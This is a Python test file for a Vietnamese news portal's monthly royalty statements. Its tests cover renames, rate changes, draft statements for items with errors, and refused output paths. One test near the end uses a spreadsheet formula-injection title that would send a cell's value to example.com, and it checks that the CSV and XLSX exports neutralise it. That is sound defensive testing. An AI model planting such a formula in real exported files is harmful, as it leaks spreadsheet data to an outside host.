"""The money cases of the audit (issue 11), each on a real git history.

Amounts: sample rates, 1 coefficient = 253,000 đồng from 2026-07-01 (before:
234,000). `statement` computes a month as the CLI does: items from main's
history, rates, roster and data as they stood on main at the month's end.
"""

import csv
import io
from datetime import datetime

import openpyxl
import pytest

from portal.cli import main
from portal.content import sitedata
from portal.dates import VIETNAM
from portal.errors import PortalError
from portal.reports.period import parse_period
from portal.reports.report import build_report
from portal.royalties.history import read_history
from portal.royalties.rates import parse_rates
from portal.royalties.tally import month_statement
from tests.conftest import REPO
from tests.githistory import Commit, Revert
from tests.royalties.conftest import (
    DUC,
    LAN,
    PHUC,
    ROSTER,
    TUNG,
    PortalRepo,
    change,
    item,
    replaced,
    submit,
)

LATER = datetime(2027, 3, 1, tzinfo=VIETNAM)
TIN = {"work": "tin", "coefficient": 1.0}  # 253,000 đồng


def statement(repo: PortalRepo, month: str, as_of: datetime = LATER):
    return month_statement(read_history(repo.content), month, as_of)


def paid(repo: PortalRepo, month: str) -> dict[tuple[str, str], int]:
    return {
        (person.person_id, line.title): line.amount
        for person in statement(repo, month).people
        for line in person.lines
    }


def publish_october(relative: str, title: str = "Tin được đổi tên tệp") -> list:
    return submit(
        relative, title, "2026-10-05 08:00", "2026-10-05 09:00", authors=[LAN], royalty=TIN
    )


@pytest.mark.parametrize(
    ("old", "new"),
    [("tin-tuc/a-truoc.md", "tin-tuc/z-sau.md"), ("tin-tuc/z-truoc.md", "tin-tuc/a-sau.md")],
    ids=["new-name-sorts-after", "new-name-sorts-before"],
)
def test_rename_and_rewrite_in_one_commit_is_paid_once(tmp_path, old, new):
    rewritten = item(
        "Tin được đổi tên tệp",
        "2026-10-05 08:00",
        body="Viết lại toàn bộ. " * 80,
        authors=[LAN],
        royalty=TIN,
    )
    repo = PortalRepo(
        tmp_path,
        publish_october(old),
        change("Rename and rewrite", "2026-11-03 09:00", {old: None, new: rewritten}),
    )
    assert paid(repo, "2026-10") == {("lan-pt", "Tin được đổi tên tệp"): 253_000}
    november = statement(repo, "2026-11")
    assert november.royalty_total == 0 and november.unpaid == []
    report = build_report(
        read_history(repo.content), sitedata.load(repo.content), parse_period("2026-11"), LATER
    )
    assert report.publications == [] and report.withdrawn == []


def test_rename_with_a_new_title_but_the_same_slug_and_date_is_paid_once(tmp_path):
    retitled = item(
        "Tin gốc, viết lại", "2026-10-05 08:00", slug="tin-goc", authors=[LAN], royalty=TIN
    )
    repo = PortalRepo(
        tmp_path,
        submit(
            "tin-tuc/cu.md",
            "Tin gốc",
            "2026-10-05 08:00",
            "2026-10-05 09:00",
            slug="tin-goc",
            authors=[LAN],
            royalty=TIN,
        ),
        change(
            "Rename and retitle",
            "2026-11-03 09:00",
            {"tin-tuc/cu.md": None, "tin-tuc/moi.md": retitled},
        ),
    )
    assert statement(repo, "2026-11").royalty_total == 0


def test_rename_with_a_new_title_and_derived_slug_in_one_commit_is_paid_once(tmp_path):
    """Same date and authors, new file name and title (so a new derived slug), in one
    commit: the same work retitled, not a new one."""
    retitled = item(
        "Tin tiêu đề mới", "2026-10-05 08:00", body="Viết lại. " * 60, authors=[LAN], royalty=TIN
    )
    repo = PortalRepo(
        tmp_path,
        publish_october("tin-tuc/ten-cu.md", "Tin tiêu đề cũ"),
        change(
            "Rename and retitle",
            "2026-11-03 09:00",
            {"tin-tuc/ten-cu.md": None, "tin-tuc/ten-moi.md": retitled},
        ),
    )
    assert statement(repo, "2026-11").royalty_total == 0
    assert len(read_history(repo.content).items) == 1


@pytest.mark.parametrize("new_name", ["tin-tuc/a-moi.md", "tin-tuc/z-moi.md"])
def test_a_move_and_a_new_work_in_the_freed_name_in_one_commit(tmp_path, new_name):
    """The published item moves to a new name while another work (same date, same author,
    another title) takes its old name, in one commit: the moved item keeps its identity
    whatever the order of the names, the other is new and paid."""
    repo = PortalRepo(
        tmp_path,
        publish_october("tin-tuc/m-cu.md", "Tin đã đăng"),
        Commit(
            "Move and reuse the name",
            "2026-11-03 09:00",
            {
                "content/tin-tuc/m-cu.md": item(
                    "Tin khác cùng giờ", "2026-10-05 08:00", authors=[LAN], royalty=TIN
                )
            },
            moves={"content/tin-tuc/m-cu.md": f"content/{new_name}"},
        ),
    )
    assert paid(repo, "2026-11") == {("lan-pt", "Tin khác cùng giờ"): 253_000}
    assert paid(repo, "2026-10") == {("lan-pt", "Tin đã đăng"): 253_000}


def test_a_new_work_under_a_freed_file_name_is_paid(tmp_path):
    repo = PortalRepo(
        tmp_path,
        publish_october("tin-tuc/cho-trong.md", "Tin cũ"),
        change("Withdraw the old item", "2026-11-02 09:00", {"tin-tuc/cho-trong.md": None}),
        submit(
            "tin-tuc/cho-trong.md",
            "Tin mới hoàn toàn",
            "2026-12-03 08:00",
            "2026-12-03 09:00",
            authors=[DUC],
            royalty=TIN,
        ),
    )
    assert paid(repo, "2026-10") == {("lan-pt", "Tin cũ"): 253_000}
    assert paid(repo, "2026-12") == {("duc-hv", "Tin mới hoàn toàn"): 253_000}


def test_another_work_written_over_a_published_file_is_a_new_work(tmp_path):
    """The mirror image of a rename: the file name stays, the work changes."""
    other = item("Tin khác", "2026-11-10 08:00", authors=[DUC], royalty=TIN)
    repo = PortalRepo(
        tmp_path,
        publish_october("tin-tuc/ghi-de.md", "Tin cũ"),
        change("Another item in the same file", "2026-11-10 09:00", {"tin-tuc/ghi-de.md": other}),
    )
    assert paid(repo, "2026-11") == {("duc-hv", "Tin khác"): 253_000}
    assert paid(repo, "2026-10") == {("lan-pt", "Tin cũ"): 253_000}


def test_a_new_work_that_git_would_call_a_rename_is_paid(tmp_path):
    """Nearly the same text under another name (git's similarity says rename), but
    another title and date: another work."""
    november = item("Lịch tiếp công dân tháng 11", "2026-11-02 08:00", authors=[LAN], royalty=TIN)
    repo = PortalRepo(
        tmp_path,
        publish_october("tin-tuc/lich-thang-10.md", "Lịch tiếp công dân tháng 10"),
        change(
            "Next month's schedule replaces the old one",
            "2026-11-02 09:00",
            {"tin-tuc/lich-thang-10.md": None, "tin-tuc/lich-thang-11.md": november},
        ),
    )
    assert paid(repo, "2026-11") == {("lan-pt", "Lịch tiếp công dân tháng 11"): 253_000}


def test_a_slug_used_again_by_another_work_is_a_new_work(tmp_path):
    repo = PortalRepo(
        tmp_path,
        submit(
            "tin-tuc/lich.md",
            "Lịch tháng 10",
            "2026-10-05 08:00",
            "2026-10-05 09:00",
            slug="lich-tiep-cong-dan",
            authors=[LAN],
            royalty=TIN,
        ),
        change("Withdraw", "2026-10-31 09:00", {"tin-tuc/lich.md": None}),
        submit(
            "tin-tuc/lich-moi.md",
            "Lịch tháng 11",
            "2026-11-02 08:00",
            "2026-11-02 09:00",
            slug="lich-tiep-cong-dan",
            authors=[DUC],
            royalty=TIN,
        ),
    )
    assert paid(repo, "2026-11") == {("duc-hv", "Lịch tháng 11"): 253_000}


def test_two_files_swapping_names_pay_nothing_again(tmp_path):
    one, two = "content/tin-tuc/mot.md", "content/tin-tuc/hai.md"
    repo = PortalRepo(
        tmp_path,
        publish_october("tin-tuc/mot.md", "Tin một"),
        submit(
            "tin-tuc/hai.md",
            "Tin hai",
            "2026-10-06 08:00",
            "2026-10-06 09:00",
            authors=[DUC],
            royalty=TIN,
        ),
        Commit("Swap the names", "2026-11-04 09:00", moves={one: two, two: one}),
    )
    assert len(paid(repo, "2026-10")) == 2
    assert statement(repo, "2026-11").royalty_total == 0


def test_reverted_and_merged_again_is_still_one_work(tmp_path):
    repo = PortalRepo(
        tmp_path,
        submit(
            "tin-tuc/lai.md",
            "Tin đăng lại",
            "2026-10-05 08:00",
            "2026-10-05 09:00",
            authors=[LAN],
            royalty=TIN,
        ),
        Revert("2026-11-02 09:00"),
        submit(
            "tin-tuc/lai.md",
            "Tin đăng lại",
            "2026-10-05 08:00",
            "2026-12-02 09:00",
            authors=[LAN],
            royalty=TIN,
        ),
    )
    assert len(paid(repo, "2026-10")) == 1
    assert paid(repo, "2026-12") == {}


# --- the rates: a typo cannot pass, a closed month cannot change ----------------------------

RATES = "reviews/royalty-rates.yml"


def test_a_unit_value_that_is_not_ten_percent_of_the_base_salary_is_refused(tmp_path):
    rates = (REPO / RATES).read_text(encoding="utf-8").replace("value: 234000", "value: 23400")
    parsed, problems = parse_rates(rates, RATES)
    assert parsed is None
    (problem,) = [p for p in problems if p.field == "unit_values[2].value"]
    assert (
        problem.line
        == rates.splitlines().index(next(line for line in rates.splitlines() if "23400," in line))
        + 1
    )
    assert "10% lương cơ sở" in problem.message and "234.000" in problem.message


def test_a_base_salary_lower_than_the_one_before_is_refused():
    rates = (REPO / RATES).read_text(encoding="utf-8")
    rates = rates.replace("base_salary: 2340000, value: 234000", "base_salary: 234000")
    parsed, problems = parse_rates(rates, RATES)
    assert parsed is None
    (problem,) = [p for p in problems if p.field == "unit_values[2].base_salary"]
    assert "thấp hơn mức trước 1.800.000" in problem.message


def test_the_unit_value_may_be_left_out_and_is_derived(tmp_path):
    rates = (REPO / RATES).read_text(encoding="utf-8").replace(" value: 234000,", "")
    parsed, problems = parse_rates(rates, RATES)
    assert parsed is not None
    assert [uv.value for uv in parsed.unit_values] == [149_000, 180_000, 234_000, 253_000]


def test_a_typo_in_the_rates_on_main_stops_the_statement(tmp_path, monkeypatch, capsys):
    repo = PortalRepo(
        tmp_path,
        Commit(
            "Typo", "2026-10-01 09:00", {RATES: replaced(RATES, ("value: 253000", "value: 25300"))}
        ),
        publish_october("tin-tuc/a.md"),
    )
    monkeypatch.chdir(repo.root)
    code = main(["royalties", "--month", "2026-10", "--as-of", "2026-11-05 00:00"])
    err = capsys.readouterr().err
    assert code == 2
    assert "reviews/royalty-rates.yml" in err and "unit_values[3].value" in err
    assert not (repo.root / "build").exists()


def _change_rates(repo: PortalRepo, old: str, new: str) -> None:
    rates = repo.root / RATES
    text = rates.read_text(encoding="utf-8")
    assert old in text
    rates.write_text(text.replace(old, new), encoding="utf-8")


def _collected_item() -> list:
    return submit(
        "thong-tin-khac/suu-tam.md",
        "Tin sưu tầm",
        "2026-11-05 08:00",
        "2026-11-05 09:00",
        kind="article",
        section="thong-tin-khac",
        origin="collected",
        source={"name": "Bộ Nội vụ", "url": "https://moha.gov.vn"},
        authors=[PHUC],
        royalty={"work": "bai", "coefficient": 1.0},
    )


def run_month(repo, monkeypatch, out, month="2026-11", as_of="2027-02-01 00:00") -> int:
    monkeypatch.chdir(repo.root)
    return main(["royalties", "--month", month, "--as-of", as_of, "--out", str(out)])


def test_a_closed_month_is_the_same_after_later_changes_to_rates_and_roster(tmp_path, monkeypatch):
    repo = PortalRepo(tmp_path / "repo", _collected_item())
    first = tmp_path / "first"
    assert run_month(repo, monkeypatch, first) == 0
    # December: collected items paid 50%, tax and allowances changed, a new unit value, a
    # new secretary; and a working-tree edit never committed
    rates = replaced(
        RATES,
        ("collected: 0.2", "collected: 0.5"),
        ("rate: 0.1", "rate: 0.2"),
        ("base_salary_coefficient: 0.3", "base_salary_coefficient: 0.9"),
        ("works:", "works:\n  - {code: moi, name: Mới, unit: tin, min: 0.1, max: 9.0}"),
    )
    roster = replaced(ROSTER, ("name: Lê Thị Minh Thu", "name: Lê Thị Minh Thư"))
    repo.run(
        Commit(
            "New rates from December; a name corrected in the roster",
            "2026-12-01 08:00",
            {RATES: rates, ROSTER: roster},
        )
    )
    _change_rates(repo, "collected: 0.5", "collected: 1.0")
    second = tmp_path / "second"
    assert run_month(repo, monkeypatch, second) == 0
    names = sorted(p.name for p in first.iterdir())
    assert names == sorted(p.name for p in second.iterdir())
    for name in names:
        assert (first / name).read_bytes() == (second / name).read_bytes(), name
    assert statement(repo, "2026-11").royalty_total == 50_600  # 20% of 253,000
    assert "Lê Thị Minh Thu" in (second / "nhuan-but-2026-11.html").read_text(encoding="utf-8")
    assert statement(repo, "2026-12", LATER).signers["secretary"] == "Lê Thị Minh Thư"
    assert statement(repo, "2026-12", LATER).rates.origins["collected"] == 5 / 10


def test_a_rate_change_on_main_applies_from_the_month_it_lands_in(tmp_path):
    repo = PortalRepo(
        tmp_path,
        Commit(
            "Collected items paid 50% from November",
            "2026-10-20 08:00",
            {RATES: replaced(RATES, ("collected: 0.2", "collected: 0.5"))},
        ),
        _collected_item(),
    )
    assert statement(repo, "2026-11").royalty_total == 126_500


# --- items with errors: a draft, never a final statement --------------------------------------

BAD_ITEMS = {
    "negative-coefficient": {"royalty": {"work": "tin", "coefficient": -0.5}},
    "shares-99": {"authors": [{**LAN, "share": 50}, {**DUC, "share": 49}]},
    "shares-101": {"authors": [{**LAN, "share": 50}, {**DUC, "share": 51}]},
    "author-not-on-roster": {
        "authors": [{"name": "Người Lạ", "unit": "van-phong", "id": "nguoi-la"}]
    },
    "unknown-work": {"royalty": {"work": "khong-co", "coefficient": 1.0}},
}


@pytest.mark.parametrize("case", sorted(BAD_ITEMS))
def test_a_statement_with_item_errors_is_a_draft_everywhere(tmp_path, monkeypatch, capsys, case):
    fields = {"authors": [LAN], "royalty": TIN, **BAD_ITEMS[case]}
    repo = PortalRepo(
        tmp_path / "repo",
        submit(
            "tin-tuc/tot.md",
            "Tin tốt",
            "2026-11-02 08:00",
            "2026-11-02 09:00",
            authors=[DUC],
            royalty=TIN,
        ),
        submit("tin-tuc/loi.md", "Tin có lỗi", "2026-11-03 08:00", "2026-11-03 09:00", **fields),
    )
    out = tmp_path / "out"
    assert run_month(repo, monkeypatch, out) == 1
    err = capsys.readouterr().err
    assert "content/tin-tuc/loi.md:" in err and "BẢN NHÁP" in err
    assert sorted(p.name for p in out.iterdir()) == [
        "nhuan-but-2026-11-ban-nhap.csv",
        "nhuan-but-2026-11-ban-nhap.html",
        "nhuan-but-2026-11-ban-nhap.xlsx",
    ]
    rows = list(
        csv.reader(io.StringIO((out / "nhuan-but-2026-11-ban-nhap.csv").read_text("utf-8-sig")))
    )
    assert rows[0][0].endswith("(BẢN NHÁP)") and rows[1][0].startswith("BẢN NHÁP")
    html = (out / "nhuan-but-2026-11-ban-nhap.html").read_text(encoding="utf-8")
    assert 'class="draft-mark"' in html and "(BẢN NHÁP)</h1>" in html
    sheet = openpyxl.load_workbook(out / "nhuan-but-2026-11-ban-nhap.xlsx").active
    assert "BẢN NHÁP" in sheet.oddHeader.center.text
    assert "BẢN NHÁP" in sheet.cell(1, 1).value


def test_a_bad_coefficient_is_reported_at_its_line(tmp_path, monkeypatch, capsys):
    repo = PortalRepo(
        tmp_path / "repo",
        submit(
            "tin-tuc/am.md",
            "Hệ số âm",
            "2026-11-03 08:00",
            "2026-11-03 09:00",
            authors=[LAN],
            royalty={"work": "tin", "coefficient": -0.5},
        ),
    )
    assert run_month(repo, monkeypatch, tmp_path / "out") == 1
    lines = (repo.content / "tin-tuc/am.md").read_text(encoding="utf-8").splitlines()
    line = 1 + next(i for i, text in enumerate(lines) if "coefficient" in text)
    assert line > 1
    assert f"content/tin-tuc/am.md:{line}: royalty.coefficient" in capsys.readouterr().err


# --- photos, months, legal basis -------------------------------------------------------------


def test_a_photographer_with_no_image_is_not_paid_for_photos(tmp_path):
    repo = PortalRepo(
        tmp_path,
        submit(
            "tin-tuc/khong-anh.md",
            "Tin không ảnh",
            "2026-11-03 08:00",
            "2026-11-03 09:00",
            authors=[LAN, {**TUNG, "role": "photo"}],
            royalty=TIN,
        ),
        submit(
            "tin-tuc/mot-anh.md",
            "Tin một ảnh",
            "2026-11-04 08:00",
            "2026-11-04 09:00",
            authors=[LAN, {**TUNG, "role": "photo"}],
            royalty=TIN,
            images=[{"src": "images/hoi-nghi.svg", "alt": "Ảnh hội nghị"}],
        ),
    )
    assert paid(repo, "2026-11") == {
        ("lan-pt", "Tin không ảnh"): 253_000,
        ("lan-pt", "Tin một ảnh"): 253_000,
        ("tung-lv", "Tin một ảnh"): 126_500,  # 1 image × 0.5 × 253,000
    }


@pytest.mark.parametrize(
    ("month", "message"),
    [
        ("2026-1", "không hợp lệ: cần dạng YYYY-MM"),
        ("2026-13", "không hợp lệ"),
        ("9999-12", "không hợp lệ"),
        ("2026-00", "không hợp lệ"),
        ("2026-08", "bắt đầu từ 01/09/2026: không có số liệu cho tháng 2026-08"),
        ("2026-09", "không có số liệu cho tháng 2026-09 (trước khi có tin bài đầu tiên)"),
        ("2027-05", "chưa bắt đầu"),
    ],
)
def test_months_outside_the_history_or_malformed_are_refused(
    tmp_path, monkeypatch, capsys, month, message
):
    # history starts 1 September 2026; the first item: 5 October
    repo = PortalRepo(tmp_path / "repo", publish_october("tin-tuc/dau-tien.md"))
    assert run_month(repo, monkeypatch, tmp_path / "out", month=month) == 2
    err = capsys.readouterr().err
    assert message in err and "Lỗi nội bộ" not in err
    assert not (tmp_path / "out").exists()


def test_each_unit_value_used_prints_its_legal_basis_and_provisional_ones_are_marked(
    tmp_path, monkeypatch
):
    repo = PortalRepo(
        tmp_path / "repo",
        submit(
            "tin-tuc/thang-6.md",
            "Tin tháng sáu",
            "2026-06-10 08:00",
            "2026-06-10 09:00",
            authors=[LAN],
            royalty=TIN,
        ),
        submit(
            "tin-tuc/thang-7.md",
            "Tin tháng bảy",
            "2026-07-10 08:00",
            "2026-07-10 09:00",
            authors=[LAN],
            royalty=TIN,
        ),
        start="2026-06-01 08:00",
    )
    june, july = tmp_path / "june", tmp_path / "july"
    assert run_month(repo, monkeypatch, june, month="2026-06") == 0
    assert run_month(repo, monkeypatch, july, month="2026-07") == 0
    june_html = (june / "nhuan-but-2026-06.html").read_text(encoding="utf-8")
    july_html = (july / "nhuan-but-2026-07.html").read_text(encoding="utf-8")
    assert "1 hệ số = 234.000 đồng (Nghị định 73/2024/NĐ-CP)" in june_html
    assert "TẠM TÍNH: chưa có nghị định" not in june_html
    assert "1 hệ số = 253.000 đồng (Theo báo chí" in july_html
    assert "TẠM TÍNH: chưa có nghị định ban hành" in july_html
    assert "GIÁ TRỊ 1 HỆ SỐ TẠM TÍNH" in july_html
    rows = (july / "nhuan-but-2026-07.csv").read_text("utf-8-sig")
    assert "GIÁ TRỊ 1 HỆ SỐ TẠM TÍNH" in rows and "Theo báo chí" in rows


def november_item(root) -> PortalRepo:
    return PortalRepo(
        root,
        submit(
            "tin-tuc/thang-11.md",
            "Tin tháng mười một",
            "2026-11-02 08:00",
            "2026-11-02 09:00",
            authors=[LAN],
            royalty=TIN,
        ),
    )


# --- --out -------------------------------------------------------------------------------------


def test_out_onto_an_existing_file_is_refused_and_nothing_is_written(tmp_path, monkeypatch, capsys):
    repo = november_item(tmp_path / "repo")
    target = tmp_path / "a-file"
    target.write_text("giữ nguyên", encoding="utf-8")
    assert run_month(repo, monkeypatch, target) == 2
    err = capsys.readouterr().err
    assert str(target) in err or "a-file" in err
    assert "không phải thư mục" in err and "Lỗi nội bộ" not in err
    assert target.read_text(encoding="utf-8") == "giữ nguyên"


def test_out_in_an_unwritable_place_is_refused(tmp_path, monkeypatch, capsys):
    """/proc takes no new folder, even from root (the tests may run as root)."""
    repo = november_item(tmp_path / "repo")
    assert run_month(repo, monkeypatch, "/proc/nhuan-but/2026-11") == 2
    err = capsys.readouterr().err
    assert "/proc/nhuan-but/2026-11" in err and "không tạo được thư mục" in err
    assert "Lỗi nội bộ" not in err


def test_out_under_a_file_is_refused(tmp_path, monkeypatch, capsys):
    repo = november_item(tmp_path / "repo")
    (tmp_path / "a-file").write_text("x", encoding="utf-8")
    assert run_month(repo, monkeypatch, tmp_path / "a-file" / "out") == 2
    err = capsys.readouterr().err
    assert "a-file/out" in err and "Lỗi nội bộ" not in err


def test_a_folder_where_a_statement_file_goes_is_refused_before_any_write(
    tmp_path, monkeypatch, capsys
):
    repo = november_item(tmp_path / "repo")
    out = tmp_path / "out"
    (out / "nhuan-but-2026-11.html").mkdir(parents=True)
    assert run_month(repo, monkeypatch, out) == 2
    assert "nhuan-but-2026-11.html" in capsys.readouterr().err
    assert sorted(p.name for p in out.iterdir()) == ["nhuan-but-2026-11.html"]


def test_errors_are_portal_errors(tmp_path):
    repo = PortalRepo(tmp_path)
    with pytest.raises(PortalError, match="không có số liệu"):
        statement(repo, "2026-08")


def test_a_title_that_looks_like_a_formula_stays_text(tmp_path, monkeypatch):
    hostile = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
    repo = PortalRepo(
        tmp_path / "repo",
        submit(
            "tin-tuc/cong-thuc.md",
            hostile,
            "2026-11-02 08:00",
            "2026-11-02 09:00",
            slug="cong-thuc",
            authors=[LAN],
            royalty=TIN,
        ),
    )
    out = tmp_path / "out"
    assert run_month(repo, monkeypatch, out) == 0
    sheet = openpyxl.load_workbook(out / "nhuan-but-2026-11.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
    assert cells and all(cell.data_type == "s" for cell in cells)
    rows = list(csv.reader(io.StringIO((out / "nhuan-but-2026-11.csv").read_text("utf-8-sig"))))
    assert any("'" + hostile in row for row in rows)
    assert not any(hostile in row for row in rows)


def test_a_link_where_a_statement_file_goes_is_refused_and_its_target_untouched(
    tmp_path, monkeypatch, capsys
):
    repo = november_item(tmp_path / "repo")
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere.txt"
    out.mkdir()
    elsewhere.write_text("không được ghi đè", encoding="utf-8")
    (out / "nhuan-but-2026-11.csv").symlink_to(elsewhere)
    assert run_month(repo, monkeypatch, out) == 2
    assert "nhuan-but-2026-11.csv" in capsys.readouterr().err
    assert elsewhere.read_text(encoding="utf-8") == "không được ghi đè"
    assert sorted(p.name for p in out.iterdir()) == ["nhuan-but-2026-11.csv"]
